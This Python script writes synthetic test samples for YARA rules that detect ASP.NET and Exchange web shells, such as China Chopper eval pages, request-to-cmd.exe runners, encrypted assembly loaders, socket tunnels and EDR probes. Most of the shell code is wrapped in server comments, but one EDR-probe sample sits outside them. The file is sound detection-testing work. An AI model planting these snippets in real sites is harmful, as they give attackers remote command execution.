#!/usr/bin/env python3
"""Writes the positive and negative samples of the built-in YARA rules under
Samples/rules/yara/<rule>/{positive,negative}/ (DetectionTests/YaraRuleSampleTests reads them).

Every sample is synthetic and inert: server code sits inside an ASP.NET server-side comment
(<%-- ... --%>), which IIS discards before compiling; the compiled-page samples are byte strings
shaped like an App_Web_*.dll's strings, not programs. Written for the rule's general trait, each
negative is a near miss that must stay silent. Run from the repository root.
"""
import os
import shutil

def der_request(subject: str) -> bytes:
    """Bytes shaped like a DER PKCS#10 request (SEQUENCE, long form) whose subject CN is `subject`: not a valid request."""
    cn = subject.encode()
    body = b"\x30\x03\x02\x01\x00" + b"\x0c" + bytes([0x82, len(cn) >> 8, len(cn) & 0xFF]) + cn + bytes(range(64))
    return b"\x30\x82" + bytes([len(body) >> 8, len(body) & 0xFF]) + body


DER_REQUEST_WITH_SCRIPT = der_request(
    '<%-- EXTRIAGE SYNTHETIC SAMPLE - inert --%><script language="JScript" runat="server">function Page_Load(){}</script>')
DER_REQUEST_PLAIN = der_request("mail.corp.example")

ROOT = os.path.join("Samples", "rules", "yara")
HEAD = "<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.\n"
TAIL = "\n--%>\n"


def page(body: str) -> bytes:
    return (HEAD + body + TAIL).encode()


def utf16(body: str) -> bytes:
    return b"\xff\xfe" + (HEAD + body + TAIL).encode("utf-16-le")


def pe(ascii_names, wide_strings, size=12 * 1024) -> bytes:
    """Bytes shaped like a small .NET PE: MZ header, ASCII metadata names, UTF-16LE user strings."""
    data = bytearray(b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\n")
    data += b"PE\x00\x00" + b"\x00" * 64
    data += b"\x00".join(name.encode() for name in ascii_names) + b"\x00"
    for text in wide_strings:
        data += text.encode("utf-16-le") + b"\x00\x00"
    data += b"\x00" * max(0, size - len(data))
    return bytes(data)


SAMPLES = {
    "ChinaChopper_Eval_Request": {
        "positive": {
            "jscript-item.aspx": page('<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'),
            "jscript-form.aspx": page('<%@ Page Language="Jscript" Debug=false%>\n<% eval( Request.Form["k"] , \'unsafe\' ); %>'),
            "vbscript.asp": page('<%If Request("p")<>"" Then Execute(Request("p"))%>'),
            "obfuscated.aspx": page('<%@ Page Language="Jscript"%><%var _0x1=["x"];eval(Request[_0x1a2b[0]],"un"+"safe");%>'),
            "comment-padded.aspx": page('<%@ Page Language="Jscript"%><%eval (/*-x-*/Request.Item["q"]/*-x-*/,/*-*/"u"+"n"+"s"+"a"+"f"+"e");%>'),
            "utf16.aspx": utf16('<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'),
        },
        "negative": {
            "client-eval.aspx": page('<%@ Page Language="C#"%><script>var x = eval("(" + json + ")");</script><% Response.Write(Request["q"]); %>'),
            "unsafe-word.aspx": page('<%@ Page Language="C#"%><p>Do not use unsafe code; eval is evil.</p>'),
        },
    },
    "ChinaChopper_Small_JScript_Page": {
        "positive": {
            "tiny.aspx": page('<%@ Page Language="Jscript"%><%var c=Request.Form("x");eval(c);%>'),
        },
        "negative": {
            "tiny-csharp.aspx": page('<%@ Page Language="C#"%><%Response.Write(Request.Form["x"]);%>'),
        },
    },
    "Exchange_OAB_Dump_Script_In_Url": {
        "positive": {
            "dump.aspx": page("Name                            : OAB (Default Web Site)\n"
                              "ExtendedProtectionTokenChecking : None\n"
                              "InternalUrl                     : https://mail.example.test/OAB\n"
                              "InternalAuthenticationMethods   : {WindowsIntegrated}\n"
                              'ExternalUrl                     : http://x/<script language="JScript" runat="server">function Page_Load(){eval(Request["a"],"unsafe");}</script>\n'),
            "cisa-variant.aspx": page("OfflineAddressBooks : \\Default Offline Address Book\n"
                                      "ExternalUrl    : http://g/#<%Response.Write(1)%>\n"),
        },
        "negative": {
            "clean-dump.txt": b"Name : OAB (Default Web Site)\nExtendedProtectionTokenChecking : None\nInternalUrl : https://mail.example.test/OAB\n"
                              b"InternalAuthenticationMethods : {WindowsIntegrated}\nExternalUrl : https://mail.example.test/OAB\n",
        },
    },
    "AspNet_Request_To_Process": {
        "positive": {
            "cmd.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Diagnostics"%>\n<script runat="server">\n'
                             'void Run(object s, EventArgs e){ var p = new ProcessStartInfo("cmd.exe", "/c " + txtCmd.Text); '
                             'p.RedirectStandardOutput = true; p.UseShellExecute = false; Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); }\n</script>'),
            "wscript.asp": page('<% Set sh = CreateObject("WScript.Shell") : Set ex = sh.Exec("cmd /c " & Request.Form("c")) : Response.Write ex.StdOut.ReadAll %>'),
        },
        "negative": {
            "no-input.aspx": page('<%@ Page Language="C#"%><% System.Diagnostics.Process.Start("notepad.exe"); %>'),
            "input-no-process.aspx": page('<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request.QueryString["name"])); %>'),
        },
    },
    "AspNet_Eval_Of_Request_Data": {
        "positive": {
            "jscript.aspx": page('<%@ Page Language="JScript"%><% var code = Request.Params["c"]; var r = eval(code, "unsafe"); Response.Write(r); %>'),
            "codedom.aspx": page('<%@ Page Language="C#"%><% var p = new Microsoft.CSharp.CSharpCodeProvider(); '
                                 'var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]); %>'),
        },
        "negative": {
            "jscript-no-eval.aspx": page('<%@ Page Language="JScript"%><% Response.Write(Request.Params["c"]); %>'),
        },
    },
    "AspNet_Assembly_Load_Of_Decoded_Bytes": {
        "positive": {
            "aes-loader.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Reflection"%><% byte[] k = Encoding.Default.GetBytes(Session[0] + ""); '
                                    'byte[] c = Request.BinaryRead(Request.ContentLength); '
                                    'Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this); %>'),
            "reflective.asmx": page('<%@ WebService Language="C#" Class="S"%>\npublic class S : WebService { [WebMethod] public string X(string d) { '
                                    'byte[] b = Convert.FromBase64String(d); var a = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { b }); return ""; } }'),
        },
        "negative": {
            "load-by-name.aspx": page('<%@ Page Language="C#"%><% var a = System.Reflection.Assembly.Load("System.Web"); Response.Write(a.FullName); %>'),
        },
    },
    "AspNet_Reflection_With_Request_Input": {
        "positive": {
            "invoke.aspx": page('<%@ Page Language="C#"%><% var t = Type.GetType(Request.Form["t"]); '
                                'var o = Activator.CreateInstance(t); t.GetMethod(Request.Form["m"]).Invoke(o, null); %>'),
        },
        "negative": {
            "fixed-type.aspx": page('<%@ Page Language="C#"%><% var o = Activator.CreateInstance(typeof(System.Text.StringBuilder)); Response.Write(Request.QueryString["x"]); %>'),
        },
    },
    "AspNet_Decoded_Payload_Executed": {
        "positive": {
            "chopper-b64.aspx": page('<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("UmVzcG9uc2UuV3JpdGUoMSk=")),"unsafe");%>'),
            "xor.aspx": page('<%@ Page Language="C#"%><% byte[] d = Convert.FromBase64String(Request.Form["d"]); for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ key[i % key.Length]); '
                             'System.Reflection.Assembly.Load(d); %>'),
        },
        "negative": {
            "decode-only.aspx": page('<%@ Page Language="C#"%><% var img = Convert.FromBase64String(Request.Form["img"]); Response.BinaryWrite(img); %>'),
        },
    },
    "AspNet_File_Manager": {
        "positive": {
            "browser.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.IO"%><% string p = Request.QueryString["p"]; '
                                 'foreach (var d in Environment.GetLogicalDrives()) Response.Write(d); foreach (var f in new DirectoryInfo(p).GetFiles()) Response.Write(f.Name); '
                                 'if (Request["dl"] != null) Response.WriteFile(Request["dl"]); %>'),
            "manager.aspx": page('<%@ Page Language="C#"%><% var dir = Request.Form["dir"]; var subs = Directory.GetDirectories(dir); var files = Directory.GetFiles(dir); '
                                 'File.Delete(Request.Form["del"]); File.Move(Request.Form["a"], Request.Form["b"]); File.SetLastWriteTime(Request.Form["t"], DateTime.Parse("2019-01-01")); %>'),
        },
        "negative": {
            "gallery.aspx": page('<%@ Page Language="C#"%><% foreach (var f in Directory.GetFiles(Server.MapPath("~/images"))) Response.Write(Path.GetFileName(f)); '
                                 'Response.Write(Request.QueryString["page"]); %>'),
        },
    },
    "AspNet_SQL_Console": {
        "positive": {
            "console.aspx": page('<%@ Page Language="C#"%><script runat="server">void Go(object s, EventArgs e) { var c = new SqlConnection(txtConn.Text); '
                                 'var cmd = new SqlCommand(txtSql.Text, c); c.Open(); grid.DataSource = cmd.ExecuteReader(); grid.DataBind(); }</script>'),
            "dump.aspx": page('<%@ Page Language="C#"%><% string cs = "server=" + host + ";uid=" + user + ";pwd=" + pass; var da = new SqlDataAdapter("select * from " + table, cs); %>'),
        },
        "negative": {
            "report.aspx": page('<%@ Page Language="C#"%><% var c = new SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString); '
                                'var cmd = new SqlCommand("select name from products where id = @id", c); cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]); c.Open(); cmd.ExecuteReader(); %>'),
        },
    },
    "AspNet_Request_Written_To_File": {
        "positive": {
            "writer.aspx": page('<%@ Page Language="C#"%><% using (var w = new System.IO.StreamWriter(Request.Form["f"])) { w.Write(Request.Form["c"]); } %>'),
            "upload.aspx": page('<%@ Page Language="C#"%><% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(Request["dir"]) + Request.Files[0].FileName); %>'),
            "beside-self.aspx": page('<%@ Page Language="C#"%><% HttpPostedFile f = Request.Files[0]; var here = new FileInfo(Request.PhysicalPath).DirectoryName; '
                                     'using (var s = new FileStream(Path.Combine(here, Path.GetFileName(f.FileName)), FileMode.Create)) f.InputStream.CopyTo(s); %>'),
        },
        "negative": {
            "avatar.aspx": page('<%@ Page Language="C#"%><% var f = Request.Files[0]; var id = Guid.NewGuid(); f.SaveAs(Server.MapPath("~/App_Data/avatars/") + id + ".png"); %>'),
        },
    },
    "AspNet_Socket_Tunnel": {
        "positive": {
            "tunnel.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Net.Sockets"%><% string cmd = Request.Headers.Get("X-CMD"); '
                                'if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); '
                                's.Connect(Request.Headers.Get("X-TARGET"), int.Parse(Request.Headers.Get("X-PORT"))); } '
                                'else if (cmd == "FORWARD") { byte[] b = Convert.FromBase64String(Request.Form["d"]); } %>'),
        },
        "negative": {
            "health.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Net.Sockets"%><% using (var c = new TcpClient()) { c.Connect("localhost", 25); } Response.Write("ok"); %>'),
        },
    },
    "AspNet_Shell_Traits_Several": {
        "positive": {
            "traits.aspx": page('<%@ Page Language="C#"%><% var b = Convert.FromBase64String(x); Response.BinaryWrite(b); File.WriteAllBytes(p, b); %>'),
        },
        "negative": {
            "two-traits.aspx": page('<%@ Page Language="C#"%><% var b = Convert.FromBase64String(x); Response.BinaryWrite(b); %>'),
        },
    },
    "AspNet_Shell_Trait_Pair": {
        "positive": {
            "pair.aspx": page('<%@ Page Language="C#"%><% var b = Convert.FromBase64String(x); Response.BinaryWrite(b); %>'),
        },
        "negative": {
            "one-trait.aspx": page('<%@ Page Language="C#"%><% Response.BinaryWrite(data); %>'),
            "client-script.js": b'var b = atob(x); eval(b); var p = "powershell";\n',
        },
    },
    "AspNet_Raw_Socket_Sniffer": {
        "positive": {
            "sniff.aspx": page('<%@ Page Language="C#"%><% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); '
                               's.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); %>'),
        },
        "negative": {
            "stream-socket.aspx": page('<%@ Page Language="C#"%><% var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); %>'),
        },
    },
    "AspNet_Server_Recon": {
        "positive": {
            "registry.aspx": page('<%@ Page Language="C#"%><% RegistryKey k = Registry.LocalMachine; foreach (var n in k.OpenSubKey("SOFTWARE").GetSubKeyNames()) Response.Write(n); %>'),
            "writable.aspx": page('<%@ Page Language="C#"%><% void Scan(DirectoryInfo d) { foreach (var s in d.GetDirectories()) { try { File.Create(s.FullName + "\\\\t").Close(); '
                                  'File.Delete(s.FullName + "\\\\t"); Response.Write(s.FullName); } catch {} Scan(s); } } %>'),
        },
        "negative": {
            "settings.aspx": page('<%@ Page Language="C#"%><% var v = Registry.GetValue("HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Example", "Theme", "blue"); %>'),
        },
    },
    "Compiled_AppWeb_Shell_In_DropZone": {
        "positive": {
            "App_Web_q1w2e3r4.dll": pe(["App_Web_q1w2e3r4", "get_Request", "get_Item", "JScriptEvaluate", "Microsoft.JScript"],
                                       ["~/aspnet_client/system_web/x1y2z3.aspx", "unsafe"]),
            "App_Web_files.dll": pe(["App_Web_files", "get_Request", "get_Files", "get_Count", "get_Item", "get_Server", "SaveAs"],
                                    ["~/auth/up.aspx"]),
        },
        "negative": {
            "App_Web_logon.dll": pe(["App_Web_logon", "get_Request", "get_Item", "Page_Load"], ["~/auth/logon.aspx"]),
        },
    },
    "Compiled_HAFNIUM_OAB_Shell": {
        "positive": {
            "App_Web_oabdump.dll": pe(["App_Web_oabdump", "Page_Load", "get_Request"], ["ExternalUrl                     : http://f/"]),
        },
        "negative": {
            "App_Web_oab.dll": pe(["App_Web_oab", "Page_Load"], ["ExternalUrl : https://mail.example.test/OAB"]),
        },
    },
    "Compiled_AppWeb_JScript_Eval": {
        "positive": {
            "App_Web_abcd1234.dll": pe(["App_Web_abcd1234", "get_Request", "get_Item", "JScriptEvaluate"], ["~/images/x.aspx"]),
        },
        "negative": {
            "App_Web_clean.dll": pe(["App_Web_clean", "get_Request", "Page_Load", "get_Item"], ["~/default.aspx"]),
        },
    },
    "Compiled_AppWeb_Process_From_Request": {
        "positive": {
            "App_Web_cmd.dll": pe(["App_Web_cmd", "get_Request", "ProcessStartInfo", "set_RedirectStandardOutput", "Start"], ["cmd.exe", "/c "]),
        },
        "negative": {
            "App_Web_report.dll": pe(["App_Web_report", "get_Request", "Page_Load"], ["report"]),
        },
    },
    "Compiled_Record_For_DropZone_Page": {
        "positive": {
            "discover.aspx.cdcab7d2.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/aspnet_client/discover.aspx" hash="16f4b5a35" filehash="cfde5fbd4b3a83fe" flags="110000" assembly="App_Web_k4p2x9qz" type="ASP.aspnet_client_discover_aspx">\r\n    <filedeps>\r\n        <filedep name="/aspnet_client/discover.aspx" />\r\n    </filedeps>\r\n</preserve>\r\n',
            "erroree.aspx.1a2b3c4d.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/owa/auth/errorEE.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_zz11yy22" type="ASP.owa_auth_erroree_aspx" />\r\n',
        },
        "negative": {
            "logon.aspx.cdcab7d2.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/owa/auth/logon.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_aa11bb22" type="ASP.owa_auth_logon_aspx" />\r\n',
            "timeoutlogoff.aspx.99aa88bb.compiled": b'<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/ecp/auth/TimeoutLogoff.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_cc33dd44" type="ASP.ecp_auth_timeoutlogoff_aspx" />\r\n',
        },
    },
    "Exchange_PST_Shaped_Page": {
        "positive": {
            "mailbox-export.aspx": b"!BDN" + bytes(range(256)) * 8,
        },
        "negative": {
            "archive.pst": b"!BDN" + bytes(range(256)) * 8,
        },
    },
    "Exchange_CertRequest_Shaped_Page": {
        "positive": {
            "certrequest.aspx": DER_REQUEST_WITH_SCRIPT,
        },
        "negative": {
            "mail.req": DER_REQUEST_WITH_SCRIPT,
            "plain-request.aspx": DER_REQUEST_PLAIN,
        },
    },
    "Exchange_SportsBall_Shell": {
        "positive": {
            "sportsball.aspx": page('<%@ Page Language="C#"%><% var c = Request.Cookies["fqrspt"]; if (c != null) { var cmd = c.Value; } %>'),
        },
        "negative": {
            "cookie.aspx": page('<%@ Page Language="C#"%><% var c = Request.Cookies["session"]; %>'),
        },
    },
    "Exchange_SecChecker_EDR_Probe": {
        "positive": {
            "secchecker.aspx": b'<%@ Page Language="C#"%><% Response.Write(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe") + "|" + System.IO.File.Exists("c:\\windows\\system32\\csfalconservice.exe")); %><%-- EXTRIAGE SYNTHETIC SAMPLE --%>\n',
        },
        "negative": {
            "inventory.htm": b"<html><body>Agents: fireeye\\xagt.exe, csfalconservice.exe</body></html>\n",
        },
    },
}


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    for rule, kinds in SAMPLES.items():
        for kind, files in kinds.items():
            folder = os.path.join(ROOT, rule, kind)
            os.makedirs(folder, exist_ok=True)
            for name, data in files.items():
                with open(os.path.join(folder, name), "wb") as handle:
                    handle.write(data)
    print(f"wrote samples for {len(SAMPLES)} rules under {ROOT}")


if __name__ == "__main__":
    main()
